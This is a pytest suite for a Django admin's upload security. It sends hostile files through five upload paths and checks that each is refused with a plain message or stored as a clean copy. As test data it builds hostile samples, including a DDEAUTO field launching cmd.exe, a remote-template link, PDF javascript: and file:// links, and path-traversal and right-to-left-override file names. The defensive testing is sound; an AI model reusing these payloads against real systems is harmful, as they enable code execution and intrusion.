"""The hostile set, sent through every upload path an editor has.

Each hostile file is either refused with a plain message (what was found, what to do), leaving no
file in storage and no row behind, or neutralised: accepted, and the stored file, read back, is
proved clean. Ordinary files are still accepted on every path.

The paths, all through the real admin with a logged-in editor:
- ``document``: a signed document (AgreementDocument) added in the admin;
- ``form``: an application form attached to a stage (StageRequirement, inline of the stage);
- ``diagram``: the agreement's process diagram, on the agreement's own change form;
- ``library``: django-filer's upload view, as its form upload;
- ``library-raw``: django-filer's upload view, as its raw upload (name from the address).

Files are posted as hand-built multipart bodies so the file name arrives exactly as a crafted
request would send it (the test client would strip folder parts itself).
"""

import io
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import quote

import pytest
from django.conf import settings
from django.test.client import encode_multipart
from django.urls import reverse
from djangocms_versioning.models import Version
from filer.models import File
from PIL import Image

from agreements.models import (
    AgreementContent,
    AgreementDocument,
    ApplicationStage,
    StageRequirement,
)
from tests.agreements.factories import draft_of

from . import files
from .admin_forms import change_form_data

pytestmark = pytest.mark.django_db

PATHS = ["document", "form", "diagram", "library", "library-raw"]
BOUNDARY = "hostile-upload-boundary"
RLO = "\u202e"


def good_jpeg():
    buffer = io.BytesIO()
    Image.new("RGB", (48, 32), "#205080").save(buffer, format="JPEG", quality=85)
    return buffer.getvalue()


def ordinary(path):
    """An ordinary file for ``path``: a PDF, except for the diagram, which takes images."""
    return files.good_png() if path == "diagram" else files.good_pdf()


@dataclass
class Hostile:
    name: str
    content: object  # bytes, or a callable taking the path (content that suits the path)
    message: str  # what every path says, unless ``messages`` has its own words for a path
    messages: dict = field(default_factory=dict)
    neutralised: tuple = ()  # paths that accept the file and store a clean copy

    def content_for(self, path):
        return self.content(path) if callable(self.content) else self.content


HOSTILE = {
    "html-saved-as-pdf": Hostile("annex-d.pdf", files.HTML_PAGE, "a web page (HTML)"),
    "svg-with-script": Hostile("chart.svg", files.SVG_WITH_SCRIPT, "an SVG drawing"),
    "pdf-openaction-javascript": Hostile(
        "annex-d.pdf",
        files.pdf_open_action_javascript(),
        "&quot;annex-d.pdf&quot; contains JavaScript.",
        messages={"diagram": "is a PDF document, but only PNG, JPEG or WebP images"},
    ),
    "pdf-hidden-javascript-name": Hostile(
        "annex-d.pdf",
        files.pdf_hidden_javascript_name(),
        "&quot;annex-d.pdf&quot; contains JavaScript.",
        messages={"diagram": "is a PDF document, but only PNG, JPEG or WebP images"},
    ),
    "pdf-launch": Hostile(
        "annex-d.pdf",
        files.pdf_launch_action(),
        "contains an action that starts a program or opens a file (/Launch)",
        messages={"diagram": "is a PDF document, but only PNG, JPEG or WebP images"},
    ),
    "pdf-attachment": Hostile(
        "annex-d.pdf",
        files.pdf_with_attachment(),
        "contains embedded (attached) files",
        messages={"diagram": "is a PDF document, but only PNG, JPEG or WebP images"},
    ),
    "html-pdf-polyglot": Hostile(
        "annex-d.pdf", files.pdf_html_polyglot(), "a web page (HTML) with a PDF hidden inside it"
    ),
    "pdf-html-polyglot": Hostile(
        "annex-d.pdf",
        files.pdf_with_html_tail(),
        "other data after the end of the PDF",
        messages={"diagram": "is a PDF document, but only PNG, JPEG or WebP images"},
    ),
    "png-with-html-and-zip": Hostile(
        "chart.png",
        files.png_with_html_and_zip(),
        "a PNG image",
        neutralised=("diagram", "library", "library-raw"),
    ),
    "decompression-bomb-png": Hostile(
        "chart.png",
        files.bomb_png(100_000, 100_000),
        "a PNG image",
        messages={
            "diagram": "far too many pixels to be shown safely; images may have at most 40 "
            "megapixels. Resize it and upload it again.",
            # filer measures images while validating its own form, before any upload check.
            "library": "image size exceeds limit of 40 million pixels",
            "library-raw": "image size exceeds limit of 40 million pixels",
        },
    ),
    "25mb-pdf": Hostile(
        "annex-d.pdf",
        files.big_pdf(25),
        "PDF documents may be at most 20.0\xa0MB",
        messages={
            "form": "application forms may be at most 20.0\xa0MB",
            "diagram": "images may be at most 5.0\xa0MB",
        },
    ),
    "exe-saved-as-pdf": Hostile("annex-d.pdf", files.WINDOWS_PROGRAM, "a Windows program"),
    "docx-with-macros": Hostile(
        "form.docx",
        files.docx_with_macros(),
        "a compressed archive (ZIP) or an Office document",
        messages={"form": "&quot;form.docx&quot; contains macros"},
    ),
    "name-with-parent-folders": Hostile(
        "../../../../tmp/annex-d.pdf",
        lambda path: files.good_png() if path == "diagram" else files.good_pdf(),
        "contains folder parts or special characters",
        # Django's upload parser keeps only the base name of a multipart file name.
        neutralised=("document", "form", "diagram", "library"),
    ),
    # Shows as "annexexe.pdf". Django's upload parser drops the hidden character from
    # multipart names, so the real ending shows and no longer matches the content; the raw
    # upload keeps it, and the name check says what it is.
    "name-with-right-to-left-override": Hostile(
        f"annex{RLO}fdp.exe",
        ordinary,
        "The name &quot;annexfdp.exe&quot; does not match its content",
        messages={
            "document": "The name &quot;annexfdp.exe&quot; does not end in &quot;.pdf&quot;",
            "library-raw": "&quot;annex[U+202E]fdp.exe&quot; contains a hidden character that "
            "reverses the direction of the text",
        },
    ),
}
# A PNG name for the diagram's copy of the name cases, so only the name is at fault.
DIAGRAM_NAMES = {"name-with-parent-folders": "../../../../tmp/chart.png"}


def stored_files():
    root = Path(settings.MEDIA_ROOT)
    return {str(path) for path in root.rglob("*") if path.is_file()}


def snapshot():
    """Everything an upload could leave behind: files, rows and versions."""
    return {
        "files": stored_files(),
        "library": File.objects.count(),
        "documents": AgreementDocument.objects.count(),
        "forms with files": StageRequirement.objects.exclude(file="").count(),
        "diagrams": AgreementContent.admin_manager.exclude(process_diagram="").count(),
        "versions": Version.objects.count(),
    }


def post_file(client, url, data, field_name, file_name, content):
    """POST ``data`` with one file part whose name is sent exactly as given."""
    body = encode_multipart(BOUNDARY, data)
    body = body[: body.rindex(f"--{BOUNDARY}--".encode())]
    body += (
        f"--{BOUNDARY}\r\n"
        f'Content-Disposition: form-data; name="{field_name}"; filename="{file_name}"\r\n'
        "Content-Type: application/octet-stream\r\n\r\n"
    ).encode() + content
    body += f"\r\n--{BOUNDARY}--\r\n".encode()
    return client.generic(
        "POST", url, body, content_type=f"multipart/form-data; boundary={BOUNDARY}"
    )


def upload(client, path, name, content):
    """Send one file through ``path`` into the draft of Peru's data (``draft_of``, started before
    the upload); return (accepted, error text, stored file's bytes)."""
    peru = draft_of("peru") if path in {"document", "form", "diagram"} else None
    if path == "document":
        # Signed documents are rows of the draft data's own screen.
        url = reverse("admin:agreements_agreementcontent_change", args=[peru.pk])
        data = change_form_data(client, url)
        total = int(data["documents-TOTAL_FORMS"])
        data["documents-TOTAL_FORMS"] = total + 1
        prefix = f"documents-{total}-"
        data.update({prefix + "kind": "annex", prefix + "letter": "D", prefix + "title": "Annex D"})
        data[prefix + "order"] = 9
        response = post_file(client, url, data, prefix + "file", name, content)
        if response.status_code == 302:
            document = AgreementDocument.objects.get(agreement=peru, letter="D")
            return True, "", document.file
        return False, response.content.decode(), None
    if path == "form":
        stage = ApplicationStage.objects.get(agreement=peru, order=2)
        url = reverse("admin:agreements_applicationstage_change", args=[stage.pk])
        data = change_form_data(client, url)
        data["requirements-0-availability"] = "available"
        response = post_file(client, url, data, "requirements-0-file", name, content)
        if response.status_code == 302:
            requirement = StageRequirement.objects.get(pk=data["requirements-0-id"])
            return True, "", requirement.file
        return False, response.content.decode(), None
    if path == "diagram":
        url = reverse("admin:agreements_agreementcontent_change", args=[peru.pk])
        data = change_form_data(client, url)
        data["process_diagram_alt"] = "The four stages of an application, left to right."
        response = post_file(client, url, data, "process_diagram", name, content)
        if response.status_code == 302:
            peru.refresh_from_db()
            return True, "", peru.process_diagram
        return False, response.content.decode(), None
    if path == "library":
        response = post_file(client, reverse("admin:filer-ajax_upload"), {}, "file", name, content)
    else:
        response = client.generic(
            "POST",
            reverse("admin:filer-ajax_upload") + "?qqfile=" + quote(name),
            content,
            content_type="application/octet-stream",
            headers={"x-requested-with": "XMLHttpRequest"},
        )
    if response.status_code == 200:
        return True, "", File.objects.get(pk=response.json()["file_id"]).file
    assert response.status_code == 400, response.content[:500]
    # The library answers in JSON; escape as the admin pages do so one message table serves all.
    from django.utils.html import escape

    return False, escape(response.json()["error"]), None


def read_back(stored):
    stored.open("rb")
    try:
        return stored.read()
    finally:
        stored.close()


CASES = [
    pytest.param(key, path, id=f"{key}-{path}")
    for key in HOSTILE
    for path in PATHS
    if not (key == "25mb-pdf" and path == "library-raw")  # see the raw-upload test below
]


@pytest.mark.parametrize(("key", "path"), CASES)
def test_hostile_file_is_refused_or_neutralised(editor_client, key, path):
    hostile = HOSTILE[key]
    name = DIAGRAM_NAMES.get(key, hostile.name) if path == "diagram" else hostile.name
    content = hostile.content_for(path)
    draft_of("peru")
    before = snapshot()

    accepted, error, stored = upload(editor_client, path, name, content)

    if path in hostile.neutralised:
        assert accepted, error[:3000]
        assert_clean_copy(key, path, content, stored)
        return
    assert not accepted
    assert hostile.messages.get(path, hostile.message) in error, error[:3000]
    assert RLO not in error  # a hidden direction mark would reorder the page's text
    assert snapshot() == before


def assert_clean_copy(key, path, content, stored):
    """The stored file, read back: the image alone, or the file under its plain base name."""
    data = read_back(stored)
    stored_name = Path(stored.name)
    assert ".." not in stored_name.parts
    if key == "name-with-parent-folders":
        media_root = Path(settings.MEDIA_ROOT).resolve()
        assert Path(stored.path).resolve().is_relative_to(media_root)
        assert stored_name.name.startswith(("annex-d", "chart"))
    if path == "diagram" or key == "png-with-html-and-zip":
        # Re-encoded: the same pixels, nothing after them, no HTML, no ZIP.
        with Image.open(io.BytesIO(data)) as image:
            assert image.format == "PNG"
            with Image.open(io.BytesIO(content)) as original:
                assert image.size == original.size
                assert image.convert("RGB").tobytes() == original.convert("RGB").tobytes()
        assert data.endswith(b"IEND\xaeB`\x82")
        assert b"<html" not in data and b"<script" not in data and b"PK\x03\x04" not in data
    else:
        assert data == content


ORDINARY = {
    "document": [("annex-d.pdf", files.good_pdf()), ("annex-d.pdf", files.pdf_with_links())],
    "form": [
        ("form.pdf", files.good_pdf()),
        ("form.pdf", files.pdf_with_links()),
        ("form.docx", files.office_package("word/document.xml", files.DOCX_TYPE)),
    ],
    "diagram": [("chart.png", files.good_png()), ("photo.jpg", good_jpeg())],
    "library": [
        ("annex-d.pdf", files.good_pdf()),
        ("chart.png", files.good_png()),
        ("photo.jpg", good_jpeg()),
    ],
    "library-raw": [("annex-d.pdf", files.pdf_with_links()), ("chart.png", files.good_png())],
}


@pytest.mark.parametrize(
    ("path", "name", "content"),
    [
        pytest.param(path, name, content, id=f"{path}-{name}-{index}")
        for path, cases in ORDINARY.items()
        for index, (name, content) in enumerate(cases)
    ],
)
def test_ordinary_files_are_accepted(editor_client, path, name, content):
    accepted, error, stored = upload(editor_client, path, name, content)
    assert accepted, error[:3000]
    data = read_back(stored)
    if name.endswith((".png", ".jpg")):
        with Image.open(io.BytesIO(data)) as image, Image.open(io.BytesIO(content)) as original:
            assert (image.format, image.size) == (original.format, original.size)
    else:
        assert data == content  # documents and forms are stored as uploaded, byte for byte


def test_a_25_mb_raw_upload_to_the_library_is_refused(editor_client):
    """The raw upload streams the body into an upload handler: the same size message."""
    before = snapshot()
    accepted, error, _ = upload(editor_client, "library-raw", "annex-d.pdf", files.big_pdf(25))
    assert not accepted
    assert "PDF documents may be at most 20.0\xa0MB" in error
    assert snapshot() == before


# --- The finer points, checked on the shared functions directly ---


def _refusal(check, name, content):
    from django.core.exceptions import ValidationError
    from django.core.files.uploadedfile import SimpleUploadedFile

    with pytest.raises(ValidationError) as caught:
        check(SimpleUploadedFile(name, content))
    return caught.value


def _docx(extra=(), relationships=""):
    parts = list(extra)
    if relationships:
        parts.append(
            (
                "word/_rels/settings.xml.rels",
                '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
                f'package/2006/relationships">{relationships}</Relationships>',
            )
        )
    return files.office_package("word/document.xml", files.DOCX_TYPE, parts)


REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


@pytest.mark.parametrize(
    ("content", "found"),
    [
        (_docx([("word/activeX/activeX1.bin", b"x")]), "ActiveX controls"),
        (_docx([("word/embeddings/oleObject1.bin", b"x")]), "embedded objects (OLE)"),
        (
            _docx(
                relationships=f'<Relationship Id="r1" Type="{REL}attachedTemplate" '
                'Target="http://203.0.113.9/t.dotm" TargetMode="External"/>'
            ),
            "a link to a template on another computer",
        ),
        (
            _docx(
                [
                    (
                        "word/footer1.xml",
                        "<w:ftr><w:r><w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "
                        '"/k calc"</w:instrText></w:r></w:ftr>',
                    )
                ]
            ),
            "a DDE field",
        ),
    ],
    ids=["activex", "ole-object", "remote-template", "dde-field"],
)
def test_office_forms_with_active_parts_are_refused(content, found):
    from security.uploads import inspect_application_form

    error = _refusal(inspect_application_form, "form.docx", content)
    assert error.code == "active_content"
    assert found in error.messages[0]
    assert "copy the content into a new, blank document" in error.messages[0]


def test_an_office_form_with_an_ordinary_web_link_is_accepted():
    from django.core.files.uploadedfile import SimpleUploadedFile

    from security.uploads import inspect_application_form

    content = _docx(
        relationships=f'<Relationship Id="r2" Type="{REL}hyperlink" '
        'Target="https://unfccc.int/" TargetMode="External"/>'
    )
    assert inspect_application_form(SimpleUploadedFile("form.docx", content)) == "docx"


def _pdf_with_link(uri):
    from pypdf.annotations import Link
    from pypdf.generic import NameObject, TextStringObject

    def edit(writer):
        writer.add_annotation(0, Link(rect=(50, 50, 200, 80), url="https://example.org/"))
        action = writer.pages[0]["/Annots"][-1].get_object()["/A"]
        action[NameObject("/URI")] = TextStringObject(uri)

    return files.pdf_with(edit)


@pytest.mark.parametrize(
    ("uri", "accepted"),
    [
        ("https://unfccc.int/", True),
        ("mailto:carbon@example.org", True),
        ("www.example.org", True),
        ("javascript:alert(1)", False),
        ("file:///C:/Windows/System32/calc.exe", False),
        ("\\\\203.0.113.9\\share\\x", False),
    ],
)
def test_pdf_links_are_judged_by_where_they_lead(uri, accepted):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from security.uploads import inspect_pdf

    content = _pdf_with_link(uri)
    if accepted:
        assert inspect_pdf(SimpleUploadedFile("annex-d.pdf", content)).page_count == 2
    else:
        error = _refusal(inspect_pdf, "annex-d.pdf", content)
        assert "a link to something other than a web or e-mail address" in error.messages[0]


def test_the_byte_scan_finds_what_a_parser_would_not_reach():
    """An object no reference leads to, with an escaped name: found by the second look."""
    from security.uploads import _raw_pdf_findings

    pdf = files.good_pdf()
    end = pdf.rindex(b"xref")
    hidden = b"99 0 obj\n<< /S /J#61vaScript /J#53 (app.alert(1)) >>\nendobj\n"
    assert "JavaScript" in _raw_pdf_findings(pdf[:end] + hidden + pdf[end:])
    assert _raw_pdf_findings(pdf) == []
    # Binary stream content is not mistaken for names.
    assert _raw_pdf_findings(files.pdf_with_links()) == []


def test_a_photo_keeps_its_orientation_when_re_encoded():
    from django.core.files.uploadedfile import SimpleUploadedFile

    from security.uploads import JPEG, reencode_image

    photo = Image.new("RGB", (60, 20), "#336699")
    exif = Image.Exif()
    exif[0x0112] = 6  # shown rotated 90° clockwise
    exif[0x8825] = {2: (1.0, 17.0, 30.0)}  # GPS latitude
    buffer = io.BytesIO()
    photo.save(buffer, format="JPEG", exif=exif.tobytes())
    clean = reencode_image(SimpleUploadedFile("photo.jpg", buffer.getvalue()), JPEG)
    with Image.open(io.BytesIO(clean)) as image:
        assert image.size == (20, 60)
        assert not image.getexif()
